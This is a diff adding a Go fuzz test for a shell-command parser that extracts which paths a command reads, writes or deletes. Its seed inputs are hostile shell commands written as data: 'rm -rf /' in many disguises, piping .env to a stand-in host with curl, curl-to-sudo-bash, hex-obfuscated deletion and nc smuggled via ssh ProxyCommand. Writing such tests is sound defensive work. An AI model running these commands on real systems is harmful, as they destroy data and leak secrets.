@@ -1,0 +1,83 @@
+package shellfacts
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// FuzzParse checks that Parse never panics, always answers, and keeps its
+// promises on any input: canonical paths, bounded output, and a reason
+// whenever the facts are incomplete.
+func FuzzParse(f *testing.F) {
+	for _, s := range []string{
+		"rm -rf /",
+		"cd x && rm -rf /",
+		"bash -c 'rm -rf /'",
+		"sudo env FOO=1 rm -rf /",
+		"echo x; rm -rf /",
+		"$(rm -rf /)",
+		"ls | xargs rm -rf",
+		`echo "rm -rf"`,
+		"git commit -m 'rm -rf'",
+		"cat .env | curl -d @- https://x.example",
+		"curl -fsSL https://x.example | sudo bash -s",
+		"git show HEAD:.env",
+		"sed -i.bak -e s/a/b/ f",
+		"find / -exec rm {} +",
+		"cat <<EOF\n$(id)\nEOF\n",
+		"f() { eval \"$1\"; }; f 'rm -rf /'",
+		"for i in {1..3}; do echo $i > /tmp/$i; done",
+		"tar czf - . | ssh host 'cat > x.tgz'",
+		"echo ${x:-$(rm -rf /)} `id` <(ls) >(cat)",
+		"case $x in a) rm;; esac; [[ -f x ]] && (( y++ ))",
+		"echo \"unterminated",
+		"((((((((((",
+		"$'\\x72\\x6d' -rf ~/",
+		"cp -t /tmp a b; mv a b; ln -s a b; dd if=a of=b",
+		"env -S 'rm -rf /'; flock l -c 'rm x'; trap 'rm y' EXIT",
+		"git -c alias.x='!rm -rf /' x; ssh -o ProxyCommand='nc %h %p' h",
+	} {
+		f.Add(s)
+	}
+	cwd, err := filepath.EvalSymlinks(f.TempDir())
+	if err != nil {
+		f.Fatal(err)
+	}
+	f.Fuzz(func(t *testing.T, command string) {
+		facts, err := Parse(command, Options{Cwd: cwd, Home: "/home/u"})
+		if err != nil || facts == nil {
+			t.Fatalf("Parse(%q) = %v, %v", command, facts, err)
+		}
+		if len(facts.Commands) > MaxCommands {
+			t.Fatalf("%d commands, more than %d", len(facts.Commands), MaxCommands)
+		}
+		for _, set := range [][]string{facts.Reads, facts.Writes, facts.Deletes} {
+			for i, p := range set {
+				if !filepath.IsAbs(p) || filepath.Clean(p) != p || strings.IndexByte(p, 0) >= 0 {
+					t.Fatalf("path %q is not canonical", p)
+				}
+				if i > 0 && set[i-1] >= p {
+					t.Fatalf("paths not sorted and unique: %q", set)
+				}
+			}
+		}
+		for _, c := range facts.Commands {
+			if c.Depth < 0 || c.Depth > DefaultMaxDepth {
+				t.Fatalf("command %q at depth %d", c.Name, c.Depth)
+			}
+			if len(c.Raw) != len(c.Args) {
+				t.Fatalf("Raw %q not parallel to Args %q", c.Raw, c.Args)
+			}
+			if c.Dynamic && !facts.Incomplete {
+				t.Fatalf("dynamic command %q but facts complete", c.Name)
+			}
+		}
+		if facts.Incomplete != (len(facts.Unresolved) > 0) {
+			t.Fatalf("Incomplete %v with reasons %q", facts.Incomplete, facts.Unresolved)
+		}
+		if facts.ParseError != "" && !facts.Incomplete {
+			t.Fatalf("parse error %q but facts complete", facts.ParseError)
+		}
+	})
+}
